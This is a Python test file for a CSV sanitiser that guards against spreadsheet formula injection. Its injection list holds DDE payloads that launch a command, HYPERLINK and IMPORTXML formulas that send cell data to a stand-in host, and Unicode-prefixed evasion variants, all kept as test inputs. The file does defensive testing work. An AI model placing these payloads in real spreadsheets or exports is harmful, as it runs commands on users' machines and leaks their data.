"""CSV that a spreadsheet program shows and never runs."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from companion.people.safe_csv import safe_row, safe_text, save_safe_csv, write_safe_csv

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
INJECTIONS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    '=IMPORTXML(CONCAT("http://x.example/",A1:A9),"//a")',
    '=DDE("cmd";"/c calc";"x")',
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tharmless",
    "\rharmless",
    '"=1+1"',
    "' =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u00ad-1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "hello;=1+1",
    "hello\t=1+1",
    "hello\n=1+1",
    'hello;"=1+1',
]


def first_that_counts(cell: str) -> str:
    """What a careless program looks at: the first character that is neither space, quote nor invisible."""
    return cell.lstrip("".join(map(chr, range(33))) + "\"'`\u00a0\u00ad\u200b\u200c\u200d\ufeff")[:1]


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_known_injection_survives_in_any_program(text):
    stream = io.StringIO()
    write_safe_csv(stream, ["name", "why"], [["x", text]])

    written = stream.getvalue()
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
            for cell in row:
                assert cell[:1] not in tuple(SIGNS + "\t\r\n")
                assert cell.startswith("'") or first_that_counts(cell) not in tuple(SIGNS)


@pytest.mark.parametrize(
    "text", ["", "Ada", "a=b", "x - y", "1,5", "O'Brien", "mail@example.org", "a; b; c", "'tis"]
)
def test_ordinary_text_is_left_as_it_is(text):
    assert safe_text(text) == text


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell():
    stream = io.StringIO()

    write_safe_csv(stream, ["a"], [[-1.5, 0, None, "-1.5"]])

    assert stream.getvalue() == "a\r\n-1.5,0,,'-1.5\r\n"


def test_a_header_is_made_safe_too():
    assert safe_row(["=x"]) == ["'=x"]


@settings(deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_after_reading_no_text_begins_dangerously_and_nothing_but_apostrophes_was_added(cells):
    stream = io.StringIO(newline="")
    write_safe_csv(stream, ["h"] * len(cells), [cells])
    stream.seek(0)

    read = list(csv.reader(stream))[1:]
    found = read[0] if read else [""]

    for before, after in zip(cells, found, strict=True):
        assert after[:1] not in tuple(SIGNS + "\t\r\n")
        assert after.replace("'", "") == before.replace("'", "").replace("\x00", "")


def test_a_file_has_the_mark_by_which_excel_knows_utf8(tmp_path):
    save_safe_csv(tmp_path / "x.csv", ["Zoë"], [["=1", 2]])

    assert (tmp_path / "x.csv").read_bytes() == "\ufeffZoë\r\n'=1,2\r\n".encode()
